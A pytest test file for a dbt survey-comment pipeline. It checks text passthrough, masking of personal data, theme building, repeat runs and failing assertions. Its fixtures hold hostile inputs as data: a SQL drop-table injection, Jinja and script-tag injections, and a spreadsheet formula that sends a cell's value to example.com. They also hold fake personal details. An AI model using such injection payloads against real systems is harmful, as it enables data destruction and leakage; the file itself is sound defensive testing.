"""Comments of a company from its tables to the marts: whatever they hold, twice, or none at all."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from claims import Claims, compile_claims
from companies import as_columns, required_tables, valid_row, write_company, write_parquet
from harness import Workspace
from made_up_comments import SUBJECTS, MadeUpComments

MARTS = ("fct_survey_comments", "fct_comment_themes", "fct_comment_languages", "fct_survey_answers")
HOSTILE = {
    "sql": "Robert'); drop table marts.fct_survey_comments; --",
    "jinja": "{{ 1 / 0 }} {% raw %}",
    "html": "<script>alert('x')</script>",
    "formula": '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "long": "It was good. " * 8_000,
    "emoji": "Danke 👍🏽👨‍👩‍👧",
    "arabic": "شكرا جزيلا على الخدمة الممتازة والسريعة",
    "blank": " \t ",
    "unseen": "\u200b\u202e",
    "lines": 'Two\nlines, "quoted"',
}
PERSONAL = {
    "email": "Write to jo.miller77@example.com",
    "phone": "Ruf an: 0171 2345678",
    "card": "My card 4111 1111 1111 1111 was charged",
    "iban": "Konto DE89 3704 0044 0532 0130 00",
    "address": "Ich wohne Hauptstraße 5, 10115 Berlin",
    "name": "Frau Mustermann war nett",
}
SECRETS = ("miller77", "2345678", "4111", "3704", "Hauptstraße", "10115", "Mustermann")
CLAIMS = ("assert_comments_hold_no_personal_data", "assert_comment_counts_add_up")
PARTS = ("--select", "+path:models/marts/comment", "+fct_survey_answers")


def build(workspace: Workspace, *arguments: str):
    return workspace.build(*PARTS, *arguments)


def write_answers(workspace: Workspace, comments: dict[str, str], days: dict[str, int]) -> None:
    """Write a customer and an answer per comment, satisfied where the comment speaks of agents."""
    customers = [valid_row("customers", customer_id=key, closed_at=None) for key in comments]
    answers = [
        valid_row(
            "survey_responses",
            response_id=key,
            customer_id=key,
            instrument_id="after_contact_csat",
            answer="5" if set(comment.split()) & set(SUBJECTS["agent"].split()) else "2",
            invitation_id=None,
            comment=comment,
            responded_at=f"2026-02-{days.get(key, 1):02d} 12:00:00",
        )
        for key, comment in comments.items()
    ]
    for table, rows in (("customers", customers), ("survey_responses", answers)):
        write_parquet(workspace.source / f"{table}.parquet", as_columns(rows))


@pytest.fixture(scope="module")
def company(new_workspace: Callable[[], Workspace], made_up: MadeUpComments) -> Workspace:
    """A company with comments of three themes, hostile ones and personal data; only to be read."""
    workspace = new_workspace()
    drawn, _ = made_up.draw(["bill", "outage", "agent"], 40)
    plain = {f"m{number:03d}": comment for number, comment in enumerate(drawn)}
    days = {key: 1 + number % 28 for number, key in enumerate(plain)}
    write_answers(workspace, {**plain, **HOSTILE, **PERSONAL}, days)
    outcome = build(workspace)
    assert outcome.succeeded, outcome.errors
    compile_claims(workspace, CLAIMS)
    return workspace


def rows_of(workspace: Workspace) -> list[list[dict]]:
    return [workspace.query(f"select * from marts.{mart} order by all") for mart in MARTS]


def test_whatever_a_comment_holds_it_passes_as_text(company: Workspace) -> None:
    shown = {
        row["response_id"]: row for row in company.query("select * from marts.fct_survey_comments")
    }
    assert shown["sql"]["comment"] == HOSTILE["sql"]
    assert shown["jinja"]["comment"] == HOSTILE["jinja"]
    assert shown["html"]["comment"] == HOSTILE["html"]
    assert shown["formula"]["comment"].startswith("'=HYPERLINK")
    assert shown["emoji"]["comment"] == HOSTILE["emoji"]
    assert shown["arabic"]["comment"] == HOSTILE["arabic"]
    assert shown["arabic"]["language"] == "ar"
    assert shown["lines"]["comment"] == HOSTILE["lines"]
    assert shown["long"]["is_cut"]
    assert len(shown["long"]["comment"]) <= 4_001
    assert not {"blank", "unseen"} & set(shown)
    # The answers themselves are all there.
    assert company.values("select count(*) from marts.fct_survey_answers") == [136]


def test_personal_data_are_in_no_mart(company: Workspace) -> None:
    for rows in rows_of(company):
        texts = [value for row in rows for value in row.values() if isinstance(value, str)]
        text = "\n".join(texts)
        assert [secret for secret in SECRETS if secret in text] == []
    masked = company.query(
        "select response_id, comment, personal_data_masked from marts.fct_survey_comments "
        "where personal_data_masked > 0 order by response_id"
    )
    assert [row["response_id"] for row in masked] == sorted([*PERSONAL, "formula"])


def test_themes_tell_how_satisfied_their_comments_are(company: Workspace) -> None:
    themes = company.query("select * from marts.fct_comment_themes where language = 'en'")
    for row in themes:
        lead = row["theme_words"].split(",")[0].split()[0]
        if lead in SUBJECTS["agent"].split():
            assert row["csat"] > 80
            assert row["effect_on_total_lower"] > 0
        else:
            assert row["csat"] < 30
            assert row["effect_on_total_upper"] < 0
        assert row["example_1"] is not None
        assert row["trend"] is None
    (english,) = company.query("select * from marts.fct_comment_languages where language = 'en'")
    assert english["sentiment_auc"] > 0.9
    assert english["themes"] == len(themes)
    (arabic,) = company.query("select * from marts.fct_comment_languages where language = 'ar'")
    assert arabic["themes"] is None
    assert "Themes need" in arabic["themes_reason"]


def test_a_second_run_changes_nothing(company: Workspace, tmp_path) -> None:
    again = company.copy(tmp_path / "again")
    outcome = build(again)
    assert outcome.succeeded, outcome.errors
    assert rows_of(again) == rows_of(company)
    versions = "select count(distinct themes_version) from intermediate.comment_themes"
    assert again.values(versions) == company.values(versions)


def test_themes_outlive_new_comments_and_a_run_that_broke_off(
    company: Workspace, tmp_path, made_up: MadeUpComments
) -> None:
    """Names and numbers stay; a run that ended after the themes is made good by the next one."""
    later = company.copy(tmp_path / "later")
    drawn, _ = made_up.draw(["bill", "outage", "agent"], 60, seed=2)
    write_answers(later, {f"n{k:03d}": comment for k, comment in enumerate(drawn)}, {})
    tables = ("customers", "survey_responses")
    for table in tables:
        (later.source / f"{table}.parquet").rename(later.source / f"{table}_2.parquet")
        (later.source / table).mkdir()
        (later.source / f"{table}_2.parquet").rename(later.source / table / "second.parquet")
        first = company.source / f"{table}.parquet"
        (later.source / table / "first.parquet").write_bytes(first.read_bytes())
    broken = later.copy(tmp_path / "broken")
    assert build(later).succeeded
    assert broken.dbt("run", "--select", "+comment_themes").succeeded
    assert build(broken).succeeded
    assert rows_of(broken) == rows_of(later)
    named = "select theme_id, theme_name from marts.fct_comment_themes order by theme_id"
    before, after = company.query(named), later.query(named)
    assert [row for row in after if row in before] == before
    # Twice the comments: the themes were found anew, from the earlier ones on.
    counts = "select comments_learned_from from marts.fct_comment_languages where language = 'en'"
    assert later.values(counts)[0] > 2 * company.values(counts)[0]


def test_without_comments_there_are_no_rows_and_no_failure(
    new_workspace: Callable[[], Workspace],
) -> None:
    workspace = new_workspace()
    write_company(workspace.source, required_tables(comment=None))
    outcome = build(workspace)
    assert outcome.succeeded, outcome.errors
    assert [len(rows) for rows in rows_of(workspace)] == [0, 0, 0, 1]


@pytest.fixture
def claims(company: Workspace, tmp_path: Path) -> Claims:
    """The claims about comments, of a copy that is free to change."""
    return Claims(company.copy(tmp_path / "company"))


@pytest.mark.parametrize(
    ("claim", "violation"),
    [
        (
            "assert_comments_hold_no_personal_data",
            "update marts.fct_comment_themes set example_2 = 'call +491712345678'",
        ),
        (
            "assert_comment_counts_add_up",
            "delete from marts.fct_survey_comments where response_id = 'm001'",
        ),
    ],
)
def test_claims_about_comments_can_fail(claims: Claims, claim: str, violation: str) -> None:
    assert claims.rows_against(claim) == 0
    assert claims.rows_against(claim, after=violation)


def test_a_claim_that_does_not_hold_fails_the_run(claims: Claims) -> None:
    """What is compiled is what dbt asks, and a row that it finds is a failure."""
    (claim, _) = CLAIMS
    violation = "update marts.fct_comment_themes set example_2 = 'call +491712345678'"
    claims.workspace.execute(violation)
    outcome = claims.workspace.dbt("test", "--select", claim)
    assert not outcome.succeeded
    assert f"Failure in test {claim}" in outcome.output
    assert f"Got {claims.rows_against(claim)} result" in outcome.output
